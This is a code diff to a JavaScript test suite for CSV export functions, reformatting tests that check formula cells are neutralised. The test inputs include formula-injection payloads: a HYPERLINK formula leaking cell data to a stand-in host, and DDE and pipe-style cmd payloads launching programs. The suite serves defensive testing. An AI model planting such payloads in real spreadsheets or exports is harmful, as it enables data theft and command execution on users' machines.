@@ -23,7 +23,7 @@ describe("csvField", () => {
     '=HYPERLINK("http://evil.test?leak="&A1,"Click")',
     "\t=1",
     "\r=1",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
     "+cmd|' /C notepad'!'A1'",
     "-cmd|' /C calc'!A0",
     "@cmd|' /C calc'!A0",
@@ -63,7 +63,13 @@ describe("csvField", () => {
 
 describe("toCsv", () => {
   it("writes a header and rows with CRLF line ends, every formula cell neutralised", () => {
-    const csv = toCsv(["name", "count"], [["=1+1", 2], ["Ann", -1]]);
+    const csv = toCsv(
+      ["name", "count"],
+      [
+        ["=1+1", 2],
+        ["Ann", -1],
+      ],
+    );
     expect(csv).toBe(`name,count\r\n"'=1+1",2\r\nAnn,-1\r\n`);
   });
 });
